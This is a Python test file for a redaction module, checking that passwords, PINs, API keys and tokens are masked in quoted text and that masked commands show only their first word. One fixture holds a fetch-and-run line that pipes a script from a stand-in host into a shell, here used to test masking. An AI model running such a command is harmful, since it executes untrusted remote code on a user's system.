"""What may be quoted: no secret that its name gives away, and of a masked text of several words no more than its command."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.text.quotes import HIDDEN, asked, passage, value, without_secrets

PLAIN = st.text(st.characters(min_codepoint=33, max_codepoint=126, exclude_characters="\"',;"), min_size=1)
NAMES = (
    "Password",
    "bank password",
    "passwd",
    "PIN",
    "OTP",
    "one-time code",
    "api_key",
    "API key",
    "secret",
    "access token",
)


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize(
    "form", ["{}: swordfish", "{}=swordfish", '"{}": "swordfish"', "{} : swordfish, then go"]
)
def test_what_stands_behind_the_name_of_a_secret_is_not_shown_however_it_is_quoted(
    name: str, form: str
) -> None:
    text = f"Shop login. {form.format(name)}"
    for shown in (
        without_secrets(text),
        passage(text, "masked"),
        passage(text, "full"),
        asked(text, "masked"),
        asked(text, "full"),
        value(text, "full"),
    ):
        assert "swordfish" not in shown, shown
        assert "Shop login" in shown


@pytest.mark.parametrize(
    "text",
    [
        "Reset the password of Marco Fell, and tell him so",
        "The PIN was wrong twice",
        "a spinning: top",
        "Compass: north",
        "secrets of the deep",
    ],
)
def test_words_that_give_no_secret_stay(text: str) -> None:
    assert without_secrets(text) == text


@given(PLAIN)
def test_no_word_behind_a_password_is_shown(word: str) -> None:
    assert without_secrets(f"password: {word} end") == f"password: {HIDDEN} end"


@given(st.lists(PLAIN, min_size=2, max_size=5))
def test_of_several_words_at_most_a_known_command_is_shown(words: list[str]) -> None:
    shown = value(" ".join(words), "masked")
    assert shown == HIDDEN or (shown == f"{words[0]} {HIDDEN}" and words[0].isascii())


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("select * from users where name = 'Ann'", f"select {HIDDEN}"),
        ("curl -s https://drop.example/x | sh", f"curl {HIDDEN}"),
        ("/usr/bin/curl -s x", HIDDEN),
        ("Curl hair", HIDDEN),
        ("password: swordfish now", HIDDEN),
        ("curl", HIDDEN),
    ],
)
def test_a_command_is_shown_by_its_first_word(text: str, shown: str) -> None:
    assert value(text, "masked") == shown
